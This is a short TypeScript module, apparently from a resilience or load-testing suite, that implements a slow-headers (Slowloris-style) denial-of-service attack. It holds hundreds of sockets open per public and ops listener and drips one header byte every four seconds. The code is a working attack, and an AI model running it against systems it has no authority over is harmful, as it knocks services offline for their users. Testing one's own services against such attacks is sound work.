import { type Attack, runPerSecond } from './attack.ts';
import { keepOpen, openSocket } from './requests.ts';

const PER_LISTENER = 250;
const OPENED_PER_SECOND = 50;
const DRIP_MS = 4000;

/** Sends endless request headers to public and ops listeners, a byte every few seconds. */
export const slowHeads: Attack = ({ apis, ops }, count) => {
  for (const listener of [...apis, ...ops]) {
    keepOpen(PER_LISTENER, OPENED_PER_SECOND, () => {
      const socket = openSocket(listener);
      socket.write('GET /livez HTTP/1.1\r\nHost: a\r\nX-Slow: ');
      const drip = setInterval(() => socket.write('x'), DRIP_MS);
      count('opened');
      return socket.on('close', () => clearInterval(drip)).resume();
    });
  }
  // Lets the summary relate opened connections to seconds: connecting must stay possible.
  runPerSecond(1, () => count('seconds'));
};
